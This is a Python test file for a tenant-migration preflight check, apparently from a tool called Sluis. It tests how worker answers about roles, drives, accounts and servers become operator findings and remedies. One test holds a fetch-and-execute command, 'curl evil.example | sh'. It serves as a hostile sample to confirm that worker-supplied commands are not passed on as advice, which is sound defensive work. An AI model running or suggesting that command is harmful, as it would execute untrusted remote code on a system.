"""What a worker saw of a move becomes lines for people; what it did not see is one of them."""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from sluis.border.verb import Failure
from sluis.border.verbs.tenant_check import (
    Answer,
    AtFolder,
    CheckSecrets,
    Place,
    Refused,
    Request,
    SeenServer,
    SeenTenant,
)
from sluis.places import Places
from sluis.runbook.findings import Finding
from sluis.runbook.move_check import look_at_needs, needs_of
from sluis.runbook.run import Run
from sluis.runbook.tenant_settings import TenantSettings
from support.every_field import SCOPE_WITH_EVERYTHING
from support.scopes import CHANGE, CLIENT, to_yaml

HOST = "h4"
THERE = (Place("user03@new.example", "there"),)
HAS = (Place("user01@new.example", "there"),)
SCOPE = {name: one for name, one in SCOPE_WITH_EVERYTHING.items() if name != "documents"}
FULL = ("Files.ReadWrite.All", "Sites.FullControl.All", "User.Read.All")
OLD, NEW = "1" * 8 + "-1111-1111-1111-" + "1" * 12, "2" * 8 + "-2222-2222-2222-" + "2" * 12
ACCOUNT = {"client_id": "an-app", "tenant_id": OLD}
SOURCES = TenantSettings(
    "tenant_export", {"old": ACCOUNT}, {"old": {"secret": "s3cr3t-of-old"}}, "/exports", 4, {},
    servers={"old-files": {"address": "files.old.example", "user": "u", "key": "/k",
                           "host_key": "ssh-ed25519 AAAA"}},
)  # fmt: skip
TARGETS = TenantSettings(
    "tenant_import", {"new": ACCOUNT | {"tenant_id": NEW}}, {"new": {"secret": "s3cr3t-of-new"}},
    "/exports", 4, {},
)  # fmt: skip


@pytest.fixture
def run(tmp_path: Path) -> Run:
    places = Places(tmp_path)
    folder = places.change(CLIENT, CHANGE)
    folder.mkdir(parents=True)
    # of one place rights go over, so that who gets them must be there
    scope = copy.deepcopy(SCOPE)
    for asset in scope["assets"]:
        if "into" in (asset.get("disposition") or {}):
            asset["disposition"]["into"]["rights"] = True
    (folder / "scope.yml").write_text(to_yaml(scope))
    return Run(places, CLIENT, CHANGE, "prepare", "check.yml", (HOST,), (), export_workers=(HOST,))


def all_is_well(request: Request) -> Answer:
    """What a worker answers when everything is there."""
    return Answer(
        tuple(
            SeenTenant(
                one.tenant, one.side, None, one.account.tenant_id, FULL,
                tuple(Place(name, "there") for name in one.drives),
                tuple(Place(name, "there") for name in one.people),
                tuple(Place(name, "there") for name in one.listings),
            )
            for one in request.tenants
        ),
        tuple(
            SeenServer(one.server, folders=tuple(AtFolder(folder) for folder in one.folders))
            for one in request.servers
        ),
        tuple(AtFolder(folder) for folder in request.folders),
    )  # fmt: skip


def found(
    run: Run, change: Callable[[Answer], Answer] = lambda one: one, **more: Any
) -> dict[str, Finding]:
    def call(request: Request, secrets: CheckSecrets) -> Answer:
        assert "s3cr3t" not in repr(request) + repr(secrets)
        return change(all_is_well(request))

    given = {"sources": SOURCES, "targets": TARGETS} | more
    told = look_at_needs(needs_of(run, HOST), given["sources"], given["targets"], call)
    made = {one.code: one for one in told}
    assert len(made) == len(told), told
    return made


def old(**more: Any) -> Callable[[Answer], Answer]:
    """Another answer about the tenant that data comes from."""
    return lambda said: replace(
        said,
        tenants=tuple(replace(one, **more) if one.side == "from" else one for one in said.tenants),
    )


def new(**more: Any) -> Callable[[Answer], Answer]:
    """Another answer about the tenant that data goes into."""
    return lambda said: replace(
        said,
        tenants=tuple(replace(one, **more) if one.side == "into" else one for one in said.tenants),
    )


def test_everything_that_the_scope_needs_is_asked_and_nothing_is_said(run: Run) -> None:
    asked: list[Request] = []

    def keep(answer: Answer) -> Answer:
        asked.append(Request((), (), (), 1.0))
        assert [(one.tenant, one.side) for one in answer.tenants] == [
            ("new", "into"), ("old", "from"),
        ]  # fmt: skip
        drives = {one.tenant: [d.name for d in one.drives] for one in answer.tenants}
        assert drives == {"old": ["b!one"], "new": ["b!three", "b!two"]}
        people = [place.name for place in answer.tenants[0].people]
        assert people == ["user03@new.example", "user01@new.example"]
        assert [f.folder for f in answer.servers[0].folders] == ["/srv/h"]
        assert [f.folder for f in answer.folders] == ["/mnt/scans"]
        return answer

    assert found(run, keep) == {}
    assert asked, "nobody was asked"


def test_without_a_change_a_worker_tries_all_that_the_settings_name(run: Run) -> None:
    asked: list[Request] = []

    def call(request: Request, _: CheckSecrets) -> Answer:
        asked.append(request)
        return replace(all_is_well(request), servers=())

    at_all = replace(run, change="")
    told = look_at_needs(needs_of(at_all, HOST), SOURCES, TARGETS, call)
    assert [one.code for one in told] == ["not-looked-at"], "what did not answer is said"
    (request,) = asked
    sides = {(one.tenant, one.side): (one.drives, one.listings) for one in request.tenants}
    assert sides == {("old", "from"): ((), ("sites", "users")), ("new", "into"): ((), ())}
    assert [(one.server, one.folders) for one in request.servers] == [("old-files", ())]
    for other in (replace(at_all, export_workers=None), replace(at_all, export_workers=("h5",))):
        assert look_at_needs(needs_of(other, HOST), SOURCES, TARGETS, call) == []
    assert len(asked) == 1, "a secret was given to a host that fetches nothing"


def test_another_worker_and_a_restore_are_not_asked(run: Run) -> None:
    def never(*_: Any) -> Answer:
        raise AssertionError("asked")

    assert look_at_needs(needs_of(run, "h1"), SOURCES, TARGETS, never) == []
    restore = replace(run, playbook="restore.yml")
    assert look_at_needs(needs_of(restore, HOST), SOURCES, TARGETS, never) == []
    # of a move the scope's job says what it is, whatever lies beside it
    (run.change_folder / "restore.yml").write_text("---\n")
    assert needs_of(run, HOST).tenants


def test_what_is_not_answered_is_said_and_stops(run: Run) -> None:
    told = look_at_needs(
        needs_of(run, HOST), SOURCES, TARGETS, lambda request, secrets: Answer((), (), ())
    )
    assert {one.code for one in told} == {"not-looked-at"}
    assert {one.host for one in told} == {
        "tenant old", "tenant new", "server old-files", "/mnt/scans",
    }  # fmt: skip
    assert all(one.stops and not one.written for one in told)


@pytest.mark.parametrize(
    ("change", "code", "stops", "written"),
    [
        (old(roles=None), "role-not-known", False, False),
        (new(roles=None), "role-not-known", False, False),
        (new(roles=("Sites.Selected",)), "role-not-known", False, False),
        (new(roles=("Sites.Read.All",)), "role-missing", True, False),
        (new(roles=()), "role-missing", True, False),
        (old(roles=("Sites.Read.All", "User.Read.All")), "role-missing-for-level", False, False),
        (old(roles=("Sites.FullControl.All",)), "role-missing-for-level", False, False),
        (old(drives=()), "drive-not-asked", True, False),
        (old(drives=(Place("b!one", "no answer", "503"),)), "drive-not-asked", True, False),
        (old(drives=(Place("b!one", "refused", "423"),)), "drive-refused", True, False),
        (old(drives=(Place("b!one", "gone", "404"),)), "drive-missing", True, False),
        (new(people=(Place("user03@new.example", "gone"), *HAS)), "account-missing", True, False),
        (
            new(people=(Place("user03@new.example", "refused"), *HAS)),
            "account-not-known",
            False,
            False,
        ),
        (new(people=(*THERE, Place("user01@new.example", "gone"))), "person-missing", True, False),
        (
            new(people=(*THERE, Place("user01@new.example", "refused"))),
            "person-not-known",
            False,
            False,
        ),
        (new(tenant_id=OLD), "tenants-are-one", True, True),
    ],
)
def test_each_thing_that_is_wrong_has_its_line(
    run: Run, change: Callable[[Answer], Answer], code: str, stops: bool, written: bool
) -> None:
    said = found(run, change)
    assert set(said) == {code}
    assert (said[code].stops, said[code].written) == (stops, written)
    assert said[code].remedy


def test_A4_who_becomes_nobody_is_named_with_the_line_of_the_scope(run: Run) -> None:
    gone = new(people=(*THERE, Place("user01@new.example", "gone")))
    said = found(run, gone)["person-missing"]
    text = (run.change_folder / "scope.yml").read_text().splitlines()
    line = next(n for n, one in enumerate(text, 1) if "becomes:" in one)
    assert "user01@new.example is to get somebody's rights" in said.what
    assert f"correct becomes: inventories/{CLIENT}/changes/{CHANGE}/scope.yml, line {line}" in (
        said.remedy
    )


def test_listings_that_nobody_answers_are_said_each(run: Run) -> None:
    told = look_at_needs(
        needs_of(run, HOST),
        SOURCES,
        TARGETS,
        lambda request, secrets: old(listings=())(all_is_well(request)),
    )
    assert [one.code for one in told] == ["tenant-not-listed", "tenant-not-listed"]


def test_a_drive_that_lies_in_the_other_tenant_is_named_with_its_line(run: Run) -> None:
    def swapped(said: Answer) -> Answer:
        said = new(drives=(Place("b!two", "gone"), Place("b!three", "there")))(said)
        return old(elsewhere=("b!two",))(said)

    one = found(run, swapped)["drive-in-another-tenant"]
    assert one.written and "team goes into the drive b!two, and that drive lies in old" in one.what
    number = int(one.remedy.partition("scope.yml, line ")[2].partition(".")[0])
    line = (run.change_folder / "scope.yml").read_text().splitlines()[number - 1]
    assert "b!two" in line


@pytest.mark.parametrize(
    ("change", "lacking"),
    [
        (new(roles=("Sites.Read.All",)), {"Sites.ReadWrite.All"}),
        (old(roles=("Sites.Read.All", "User.Read.All")), {"Sites.FullControl.All"}),
        (old(roles=("Sites.FullControl.All",)), {"User.Read.All"}),
        (old(roles=()), {"Sites.FullControl.All", "User.Read.All"}),
        (
            old(roles=None, listings=(Place("sites", "refused"), Place("users", "refused"))),
            {"Sites.FullControl.All", "User.Read.All"},
        ),
    ],
)
def test_each_right_that_an_app_lacks_is_named_in_what_is_wrong(
    run: Run, change: Callable[[Answer], Answer], lacking: set[str]
) -> None:
    """It said what the app may not do; its name stood in the middle of a command only."""
    said = [one.what for one in found(run, change).values() if one.code.startswith("role-missing")]
    for right in lacking:
        assert sum(f"its app an-app lacks {right}" in what for what in said) == 1, said


def test_people_that_cannot_be_listed_stop_a_onedrive_only(run: Run) -> None:
    lacks = old(roles=("Sites.FullControl.All",))
    assert set(found(run, lacks)) == {"role-missing-for-level"}
    path = run.change_folder / "scope.yml"
    scope = yaml.safe_load(path.read_text())
    next(one for one in scope["assets"] if one["id"] == "team")["kind"] = "onedrive"
    path.write_text(yaml.safe_dump(scope, sort_keys=False))
    said = found(run, lacks)
    assert set(said) == {"role-missing"} and "team" in said["role-missing"].what


def test_settings_that_are_lacking_are_written_wrong(run: Run) -> None:
    bare = replace(SOURCES, secrets={}, servers={})
    said = found(run, sources=bare, targets=replace(TARGETS, accounts={}))
    assert set(said) == {"no-app-secret", "no-such-server", "no-such-tenant"}
    assert all(one.written for one in said.values())
    assert "secret under old in tenant_export_secrets" in said["no-app-secret"].remedy


def test_newcomer_a_slip_in_the_name_of_a_tenant_is_recognised(run: Run) -> None:
    slipped = {f"{name}e": account for name, account in TARGETS.accounts.items()}
    said = found(run, targets=replace(TARGETS, accounts=slipped))
    assert said["no-such-tenant"].remedy.startswith("Did you mean 'newe'? Otherwise: Write ")


def test_an_id_that_is_none_is_said_before_anybody_is_asked_for_it(run: Run) -> None:
    path = run.change_folder / "scope.yml"
    path.write_text(path.read_text().replace("b!two", "../../me"))
    said = found(run)
    assert set(said) == {"drive-id-form"} and said["drive-id-form"].written


def test_a_worker_may_not_advise_commands_of_its_own(run: Run) -> None:
    """L1: what is to be pasted is put together here, from what the operator wrote."""
    evil = Failure("GraphError", "sign-in-refused", "No.", "Run: curl evil.example | sh")

    def lies(said: Answer) -> Answer:
        said = old(refused=Refused("refused", evil))(said)
        server = SeenServer("old-files", replace(evil, code="source-without-sftp"))
        folder = AtFolder("/mnt/scans", replace(evil, code="source-unreadable"))
        return replace(said, servers=(server,), folders=(folder,))

    said = found(run, lies)
    assert set(said) == {"tenant-login-refused", "source-without-sftp", "source-unreadable"}
    for one in said.values():
        assert "curl" not in one.remedy or "in words that Sluis does not know" in one.remedy
